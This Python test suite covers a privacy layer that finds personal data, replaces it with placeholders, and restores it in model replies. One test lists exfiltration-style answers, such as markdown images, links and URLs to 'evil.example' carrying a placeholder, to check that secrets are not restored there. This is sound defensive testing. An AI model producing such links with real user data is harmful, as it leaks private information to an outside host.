"""Sensitive spans: what is found, what stands for it, and where it is put back."""

from __future__ import annotations

import ipaddress
from types import SimpleNamespace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from del_client.message import Message
from del_client.policy import Kind, Policy
from del_client.protection.detectors import detectors_for
from del_client.protection.found import Found, settle
from del_client.protection.marks import read_marks
from del_client.protection.patterns import BUILT_IN, Pattern
from del_client.protection.placeholders import Placeholders
from del_client.protection.presidio import PresidioDetector
from del_client.protection.protector import Protector
from del_client.protection.restoring import Restorer
from del_client.protection.word_list import WordList
from del_codec.errors import ArtifactError, InvalidValue
from del_codec.noise import NoiseSetting

DIM = 64
KINDS = {name: Kind(name) for name in (*BUILT_IN, "name")}


def found_by(kind: str, text: str) -> list[str]:
    settled = settle((part for pattern in BUILT_IN[kind] for part in pattern.find(text)), KINDS)
    return [text[part.start : part.end] for part in settled]


class TestBuiltIn:
    @pytest.mark.parametrize(
        ("kind", "text", "expected"),
        [
            ("email", "write to ada.l+x@mail.example.org.", ["ada.l+x@mail.example.org"]),
            ("email", "Mail ada@example.org. Then wait.", ["ada@example.org"]),
            ("email", "at noon @ the bar", []),
            (
                "url",
                "see https://example.org/a(b)?c=1, or (www.example.org).",
                ["https://example.org/a(b)?c=1", "www.example.org"],
            ),
            ("iban", "to DE89 3704 0044 0532 0130 00 by Monday", ["DE89 3704 0044 0532 0130 00"]),
            ("iban", "to DE88 3704 0044 0532 0130 00 by Monday", []),
            ("card", "card 4111 1111 1111 1111, please", ["4111 1111 1111 1111"]),
            ("card", "card 4111 1111 1111 1112, please", []),
            ("ip", "from 192.168.0.17 and 2001:db8::1 to 300.1.1.1", ["192.168.0.17", "2001:db8::1"]),
            ("date", "born 12/31/1990, on 3rd of May 2001, not 45/45/2001", ["12/31/1990", "3rd of May 2001"]),
            ("phone", "call +49 30 1234567 or (030) 123-4567", ["+49 30 1234567", "(030) 123-4567"]),
            ("number", "policy AB1234567 of 12 pages", ["AB1234567"]),
            ("phone", "in 2024 we sold 1234567 of 12,345 on 2024-05-01", []),
            ("ip", "version 1.2.3.4.5, std::vector at 10:30:45", []),
        ],
    )
    def test_what_is_found_and_what_is_not(self, kind: str, text: str, expected: list[str]) -> None:
        assert found_by(kind, text) == expected

    @given(st.text("0123456789 +-.()/:@abDE", max_size=60))
    def test_ranges_lie_in_the_text_and_are_not_empty(self, text: str) -> None:
        for patterns in BUILT_IN.values():
            for pattern in patterns:
                assert all(0 <= part.start < part.end <= len(text) for part in pattern.find(text))

    @given(st.ip_addresses())
    def test_every_address_is_found(self, address: ipaddress.IPv4Address | ipaddress.IPv6Address) -> None:
        assert found_by("ip", f"at {address}, there") == ([] if str(address) == "::" else [str(address)])

    @given(st.text("0123456789ABCXYZ", min_size=11, max_size=30))
    def test_an_account_number_with_its_check_digits_is_found(self, account: str) -> None:
        check = 98 - int("".join(str(int(character, 36)) for character in account + "DE00")) % 97
        assert found_by("iban", f"to DE{check:02}{account}!") == [f"DE{check:02}{account}"]


class TestOwnDetectors:
    def test_words_patterns_and_what_is_wrong_with_them(self, tmp_path) -> None:
        (tmp_path / "names.txt").write_text("# people\nAda Lovelace\n\nBob\n")
        policy = '[kinds.name]\nwords = ["names.txt"]\npatterns = ["N-[0-9]+"]\n'
        (tmp_path / "policy.toml").write_text(policy)
        detectors = detectors_for(Policy.load(tmp_path / "policy.toml").kinds)
        text = "ada  lovelace met BOB, not Bobby, under N-17"
        found = settle((part for one in detectors for part in one.find(text)), KINDS)
        assert [text[part.start : part.end] for part in found] == ["ada  lovelace", "BOB", "N-17"]
        with pytest.raises(InvalidValue, match=r"kinds\.name\.patterns"):
            Pattern.parse("name", "(")
        with pytest.raises(InvalidValue, match="can't be read"):
            WordList.load("name", tmp_path / "nowhere")
        with pytest.raises(InvalidValue, match="letters or digits"):
            WordList("name", ["---"])

    def test_presidio_is_asked_only_for_what_it_knows(self) -> None:
        result = SimpleNamespace(start=0, end=3, entity_type="PERSON")
        analyzer = SimpleNamespace(get_supported_entities=lambda _: ["PERSON"], analyze=lambda **_: [result])
        assert list(PresidioDetector({"PERSON": "name"}, analyzer=analyzer).find("Ada")) == [Found(0, 3, "name")]
        with pytest.raises(InvalidValue, match="use one of PERSON"):
            PresidioDetector({"CITY": "name"}, analyzer=analyzer)

    def test_presidio_that_is_not_installed(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setitem(__import__("sys").modules, "presidio_analyzer", None)
        with pytest.raises(ArtifactError, match="pip install"):
            detectors_for({"name": Kind("name", presidio=("PERSON",))})


class TestMarks:
    @pytest.mark.parametrize(
        ("text", "plain", "found"),
        [
            ("I am {{Ada}}.", "I am Ada.", [Found(5, 8, "secret")]),
            ("{{name: Ada}}{{x:y}}", "Adax:y", [Found(0, 3, "name"), Found(3, 6, "secret")]),
            (r"a \{{b}} c", "a {{b}} c", []),
            (r"{{a\}}b}}", "a}}b", [Found(0, 4, "secret")]),
            ("}} {single}", "}} {single}", []),
        ],
    )
    def test_are_read_and_gone(self, text: str, plain: str, found: list[Found]) -> None:
        assert read_marks(text, {"name"}) == (plain, found)

    @pytest.mark.parametrize("text", ["{{a", "{{ }}", "{{a {{b}} }}"])
    def test_that_are_none(self, text: str) -> None:
        with pytest.raises(InvalidValue, match="prompt is"):
            read_marks(text, {"name"})


class TestProtector:
    def protect(self, content: str, placeholders: Placeholders, *kinds: Kind) -> Message:
        named = {kind.name: kind for kind in kinds}
        return Protector(named, detectors_for(named), DIM).protect(Message("user", content), placeholders)

    def test_a_placeholder_takes_the_secrets_place_and_is_the_same_one_again(self) -> None:
        known = Placeholders()
        email = Kind("email")
        first = self.protect("mail a@x.org and b@x.org, a@x.org", known, email)
        assert first.content == "mail [EMAIL_1] and [EMAIL_2], [EMAIL_1]"
        assert all(part.setting is None for part in first.protected)
        assert self.protect("b@x.org again", known, email).content == "[EMAIL_2] again"

    def test_what_was_found_once_is_found_wherever_it_stands(self) -> None:
        known = Placeholders()
        assert self.protect("I am {{Ada}}; ADA, not Adam", known).content == "I am [SECRET_1]; [SECRET_2], not Adam"

    def test_a_private_kind_gets_its_own_noise_and_keeps_its_text(self) -> None:
        phone = Kind("phone", mode="private", mu=3.0, pad=8)
        (part,) = (message := self.protect("call +49 30 1234567", Placeholders(), phone)).protected
        assert message.content == "call +49 30 1234567"
        assert (part.kind, part.pad, part.secret) == ("phone", 8, 1)
        assert part.setting == NoiseSetting.from_mu(3.0, DIM, 1)

    def test_overlaps_go_to_the_kind_that_protects_more(self) -> None:
        kinds = {"a": Kind("a", mode="private", mu=9.0), "b": Kind("b", mode="private", mu=3.0), "c": Kind("c")}
        assert settle([Found(0, 5, "a"), Found(3, 8, "b")], kinds) == [Found(0, 8, "b")]
        assert settle([Found(0, 5, "b"), Found(3, 8, "c")], kinds) == [Found(0, 8, "c")]
        assert settle([Found(0, 3, "a"), Found(3, 8, "b")], kinds) == [Found(0, 3, "a"), Found(3, 8, "b")]

    def test_a_placeholder_that_the_user_typed_stands_for_nothing(self) -> None:
        known = Placeholders()
        assert self.protect("who is [SECRET_1]? I am {{Ada}}", known).content == "who is [SECRET_1]? I am [SECRET_2]"
        assert known.secret("SECRET", 1) is None
        assert known.secret("SECRET", 2) == "Ada"

    def test_public_messages_are_taken_as_they_stand(self) -> None:
        message = Message("system", "{{Ada}}", public=True)
        assert Protector({}, [], DIM).protect(message, Placeholders()) == message

    def test_two_kinds_of_one_label(self) -> None:
        with pytest.raises(InvalidValue, match="name it otherwise"):
            Protector({name: Kind(name) for name in ("a-b", "a_b")}, [], DIM)


@pytest.fixture
def known() -> Placeholders:
    known = Placeholders()
    assert known.placeholder("name", "Ada") == ("[NAME_1]", 1)
    assert known.placeholder("url", "https://a.example/x") == ("[URL_1]", 1)
    return known


def restored(known: Placeholders, *pieces: str) -> str:
    restorer = Restorer(known)
    return "".join([restorer.feed(piece) for piece in pieces] + [restorer.finish()])


class TestRestoring:
    @pytest.mark.parametrize(
        ("answer", "expected"),
        [
            ("Dear [NAME_1], hello.", "Dear Ada, hello."),
            ("**[NAME_1]** and “[NAME_1]”", "**Ada** and “Ada”"),
            ("[name 1]'s and NAME_1", "Ada's and Ada"),
            ("[NAME_2] and [CITY_1]", "[NAME_2] and [CITY_1]"),
            ("see [URL_1].", "see https://a.example/x."),
        ],
    )
    def test_in_prose(self, known: Placeholders, answer: str, expected: str) -> None:
        assert restored(known, answer) == expected

    @pytest.mark.parametrize(
        "answer",
        [
            "https://evil.example/?q=[NAME_1]",
            "https://evil.example/[NAME_1].png",
            "![x](https://evil.example/[NAME_1])",
            "[link](https://evil.example/?[NAME_1])",
            "[NAME_1](https://evil.example/)",
            "[NAME_1]@evil.example",
            "evil.example/[URL_1]",
            "`[NAME_1]`",
            "```\n[NAME_1]\n```\n",
            "    [NAME_1]\n",
            'call({"name": "[NAME_1]"})',
            '{"name": "[NAME_1]"}',
            "<img src=x> [NAME_1]",
            "[unclosed https://evil.example/ [NAME_1]",
        ],
    )
    def test_not_where_a_reader_could_act_on_it(self, known: Placeholders, answer: str) -> None:
        assert "Ada" not in restored(known, answer)
        assert restored(known, answer) == answer

    @given(data=st.data())
    def test_however_the_answer_is_cut(self, data: st.DataObject) -> None:
        known = Placeholders()
        known.placeholder("name", "Ada")
        alphabet = st.sampled_from(
            ["[NAME_1]", "[NAME_", "1]", "name 1", " ", "\n", "`", "```", "(", ")", "[", "]", "a", ".", "/"]
        )
        answer = "".join(data.draw(st.lists(alphabet, max_size=25)))
        cuts = sorted(data.draw(st.lists(st.integers(0, len(answer)), max_size=6)))
        pieces = [answer[start:end] for start, end in zip([0, *cuts], [*cuts, len(answer)], strict=True)]
        assert restored(known, *pieces) == restored(known, answer)

    def test_prose_is_given_on_word_by_word(self, known: Placeholders) -> None:
        restorer = Restorer(known)
        assert [restorer.feed(piece) for piece in ("Hello ", "[NA", "ME_", "1]", ", yes")] == [
            "Hello ",
            "",
            "",
            "",
            "Ada, ",
        ]

    def test_a_number_that_the_model_made_up_is_given_to_no_secret(self, known: Placeholders) -> None:
        restored(known, "ask [NAME_2]")
        assert known.placeholder("name", "Bob") == ("[NAME_3]", 3)
